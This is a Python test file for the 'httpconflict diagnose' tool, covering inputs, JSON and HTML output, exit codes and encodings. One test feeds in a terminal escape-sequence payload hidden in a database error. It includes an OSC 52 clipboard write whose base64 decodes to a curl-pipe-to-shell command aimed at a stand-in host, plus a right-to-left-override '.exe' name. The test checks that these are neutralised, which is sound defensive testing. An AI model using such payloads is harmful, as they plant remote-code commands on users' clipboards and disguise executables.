"""`httpconflict diagnose` end to end: files, stdin, --json, --html, exit codes.

Two tests run the command as a process (a file, and stdin through a pipe); the others run its
`main` in this process (`tests.command_line.in_this_process`): the same arguments, output and
exit status, without importing the command line again for each (0.5 s of CPU a process).
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

from httpconflict.tools._output import FAILED, FOUND, OK, USAGE
from tests.command_line import in_this_process
from tests.diagnose.test_page import Page

CORPUS = Path(__file__).parent / "corpus"
#: A wide, plain (not a terminal) console, so that lines are predictable.
CONSOLE = {"COLUMNS": "100", "PYTHONIOENCODING": "utf-8"}


def diagnose_process(*args: str, stdin: str | None = None) -> subprocess.CompletedProcess[str]:
    """``httpconflict diagnose ARGS`` in a process of its own."""
    return subprocess.run(
        [sys.executable, "-m", "httpconflict.cli", "diagnose", *args],
        input=stdin,
        capture_output=True,
        text=True,
        timeout=60,
        check=False,
        env={**os.environ, **CONSOLE},
    )


def diagnose(*args: str, stdin: str = "") -> subprocess.CompletedProcess[str]:
    """``httpconflict diagnose ARGS``, run in this process."""
    return in_this_process("diagnose", *args, env=CONSOLE, stdin=stdin)


def test_a_file_is_diagnosed_on_the_terminal() -> None:
    """FILE: a panel with what conflicted, the cause and numbered steps; exit 0."""
    out = diagnose_process(str(CORPUS / "psycopg2-unique.txt"))
    assert out.returncode == OK, out.stderr
    text = " ".join(out.stdout.split())
    assert "PostgreSQL: duplicate key value violates unique constraint" in text
    assert "What conflicted" in text
    assert "users_email_key" in text
    assert "Likely cause" in text
    assert "1. See which row has it" in text
    assert "ON CONFLICT (email)" in text


def test_stdin_with_a_dash() -> None:
    """`-` reads standard input."""
    message = (CORPUS / "kubectl-object-modified.txt").read_text()
    out = diagnose_process("-", stdin=message)
    assert out.returncode == OK, out.stderr
    assert "Kubernetes: the object has been modified" in out.stdout


def test_json_is_the_structured_diagnosis() -> None:
    """--json: id, details, steps, runners-up and what was read, as JSON; exit 0."""
    out = diagnose("--json", str(CORPUS / "sqlalchemy-psycopg-unique.txt"))
    assert out.returncode == OK, out.stderr
    answer = json.loads(out.stdout)
    assert answer["recognised"] is True
    assert answer["id"] == "sqlalchemy-unique-violation"
    assert answer["details"]["constraint"] == "uq_accounts_username"
    assert answer["details"]["fields"] == "username"
    assert answer["runners_up"][0]["id"] == "postgresql-unique-violation"
    assert len(answer["steps"]) >= 3
    assert "Python traceback" in answer["evidence"]["forms"]


def test_not_recognised_exits_1() -> None:
    """An unknown input says so (and what was looked for), with exit 1, in both outputs."""
    message = (CORPUS / "unknown-500-traceback.txt").read_text()
    out = diagnose("-", stdin=message)
    assert out.returncode == FOUND
    text = " ".join(out.stdout.split())
    assert "Not recognised" in text
    assert "Looked for" in text
    out = diagnose("--json", "-", stdin=message)
    assert out.returncode == FOUND
    answer = json.loads(out.stdout)
    assert answer["recognised"] is False
    assert "Docker" in answer["looked_for"]
    assert answer["evidence"]["forms"] == ["Python traceback"]


def test_html_writes_a_troubleshooting_page(tmp_path: Path) -> None:
    """--html PAGE writes self-contained HTML whose steps are a schema.org HowTo."""
    page_path = tmp_path / "page.html"
    out = diagnose("--html", str(page_path), str(CORPUS / "docker-cli-name-in-use.txt"))
    assert out.returncode == OK, out.stderr
    assert f"wrote {page_path}" in out.stderr
    html = page_path.read_text(encoding="utf-8")
    assert '<script type="application/ld+json">' in html
    page = Page(html)
    (howto,) = page.jsonld
    assert howto["@type"] == "HowTo"
    assert howto["step"][1]["text"].startswith("If it is a leftover you do not need, remove it:")
    assert "docker rm -f web" in howto["step"][1]["text"]
    assert "Docker: the container name is already in use" in " ".join(page.text)


def test_html_with_json_keeps_stdout_json(tmp_path: Path) -> None:
    """--html with --json: the page is written and stdout is only the JSON."""
    page_path = tmp_path / "page.html"
    out = diagnose("--json", "--html", str(page_path), str(CORPUS / "es-version-conflict.json"))
    assert out.returncode == OK, out.stderr
    assert json.loads(out.stdout)["id"] == "elasticsearch-version-conflict"
    assert page_path.exists()


def test_unreadable_input_exits_3(tmp_path: Path) -> None:
    """A missing input file is the tool failing: exit 3; a page it could never write, exit 2."""
    out = diagnose(str(tmp_path / "missing.txt"))
    assert out.returncode == FAILED
    assert "cannot read" in out.stderr
    out = diagnose("--html", str(tmp_path / "no" / "such" / "dir.html"), "-", stdin="x")
    assert out.returncode == USAGE
    assert "cannot write" in out.stderr


def test_the_message_itself_as_the_argument(tmp_path: Path) -> None:
    """A pasted message (text with spaces naming no file) is diagnosed; a missing path is not."""
    message = 'ERROR: duplicate key value violates unique constraint "users_email_key"'
    out = diagnose("--json", message)
    assert out.returncode == OK, out.stderr
    answer = json.loads(out.stdout)
    assert answer["id"] == "postgresql-unique-violation"
    assert answer["details"]["constraint"] == "users_email_key"
    # A file with spaces in its name is still read as a file.
    spaced = tmp_path / "my error.txt"
    spaced.write_text(
        "fatal: the object has been modified; please apply your changes to the "
        "latest version and try again",
        encoding="utf-8",
    )
    out = diagnose("--json", str(spaced))
    assert json.loads(out.stdout)["id"] == "kubernetes-object-modified"
    # A mistyped path (no spaces) stays an unreadable file, not a message.
    assert diagnose(str(tmp_path / "eror.txt")).returncode == FAILED


def test_bad_usage_exits_2() -> None:
    """An unknown option is a usage error: exit 2."""
    assert diagnose("--colour").returncode == USAGE


def test_list_names_every_entry() -> None:
    """--list --json lists the knowledge base (httpconflict's own problem types included)."""
    out = diagnose("--list", "--json")
    assert out.returncode == OK, out.stderr
    entries = json.loads(out.stdout)
    ids = {e["id"] for e in entries}
    assert {"docker-container-name-in-use", "httpconflict-merge-conflict"} <= ids
    assert len(entries) >= 60


def test_the_service_side_does_not_load_rich() -> None:
    """The knowledge base, matcher and page renderer import no rich (the service uses them)."""
    code = (
        "import sys, httpconflict.tools.diagnose.page, httpconflict.tools.diagnose.command; "
        "print(sorted(m for m in sys.modules if m.split('.')[0] == 'rich'))"
    )
    out = subprocess.run(
        [sys.executable, "-c", code], capture_output=True, text=True, check=True, timeout=60
    )
    assert out.stdout.strip() == "[]"


def test_a_generic_answer_says_it_is_one() -> None:
    """A message no entry knows but that says "already exists" gets the generic answer, exit 0."""
    message = "provisioner: create queue orders-eu: queue orders-eu already exists\n"
    out = diagnose("--json", "-", stdin=message)
    assert out.returncode == OK, out.stderr
    answer = json.loads(out.stdout)
    assert answer["id"] == "generic-already-exists"
    assert answer["generic"] is True
    assert "generic answer" in answer["note"]
    assert "orders-eu already exists" in answer["conflicted"]
    out = diagnose("-", stdin=message)
    assert "A generic answer" in " ".join(out.stdout.split())


def test_a_generic_answer_is_not_given_to_what_is_not_a_conflict() -> None:
    """The same words with a 403, or on a refused connection, are not recognised: exit 1."""
    for message in (
        "HTTP/1.1 403 Forbidden\n\nqueue orders-eu already exists\n",
        "dial tcp 10.0.0.7:5672: connect: connection refused (lock is held by worker-2)\n",
    ):
        out = diagnose("--json", "-", stdin=message)
        assert out.returncode == FOUND, message
        assert json.loads(out.stdout)["recognised"] is False


def test_control_sequences_in_the_input_never_reach_the_terminal(tmp_path: Path) -> None:
    """A pasted value holding escape sequences is shown written out, on the terminal and in a page.

    OSC 52 writes the clipboard of a terminal that allows it, OSC 0 its title;
    0x9b is an 8-bit CSI; U+202E reverses what follows. Before, only colour
    codes were taken out: the rest reached the terminal as they were.
    """
    payload = (
        "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUvc2ggfCBzaA==\x07\x1b]0;owned\x1b\\\x9b31m\u202egnp.exe"
    )
    message = (
        'ERROR:  duplicate key value violates unique constraint "users_email_key"\n'
        f"DETAIL:  Key (email)=({payload}@b.c) already exists.\n"
    )
    page_path = tmp_path / "page.html"
    out = diagnose("--html", str(page_path), "-", stdin=message)
    assert out.returncode == OK, out.stderr
    assert "users_email_key" in out.stdout
    shown = out.stdout + page_path.read_text(encoding="utf-8")
    for unsafe in ("\x1b", "\x07", "\x9b", "\u202e"):
        assert unsafe not in shown, repr(unsafe)
    assert "\\x1b]52;c;" in out.stdout  # written out, so the reader sees what was pasted
    assert "\\x9b31m\\u202egnp.exe" in page_path.read_text(encoding="utf-8")


def test_a_long_message_as_the_argument_is_diagnosed() -> None:
    """A message longer than a file name may be (255 bytes) is the message, not exit 3."""
    message = (
        'Operation cannot be fulfilled on infras.infra.sealos.io "shaotong": the object has '
        "been modified; please apply your changes to the latest version and try again " + "x" * 300
    )
    out = diagnose("--json", message)
    assert out.returncode == OK, out.stderr
    assert json.loads(out.stdout)["id"] == "kubernetes-object-modified"


def test_a_message_in_latin_1_is_read(tmp_path: Path) -> None:
    """A server message in an 8-bit code page (SQL Server's, German) reads as in UTF-8."""
    message = (
        "Verletzung der PRIMARY KEY-Einschränkung 'PK_Kunden'. Ein doppelter Schlüssel kann in "
        "das dbo.Kunden-Objekt nicht eingefügt werden. Der doppelte Schlüsselwert ist (4711)."
    )
    answers = []
    for encoding in ("utf-8", "latin-1"):
        path = tmp_path / f"{encoding}.txt"
        path.write_bytes(message.encode(encoding))
        out = diagnose("--json", str(path))
        assert out.returncode == OK, out.stderr
        answers.append(json.loads(out.stdout))
    assert answers[0]["id"] == answers[1]["id"] == "sqlserver-unique-violation"
    assert answers[0]["details"] == answers[1]["details"]
    assert answers[1]["details"]["constraint"] == "PK_Kunden"
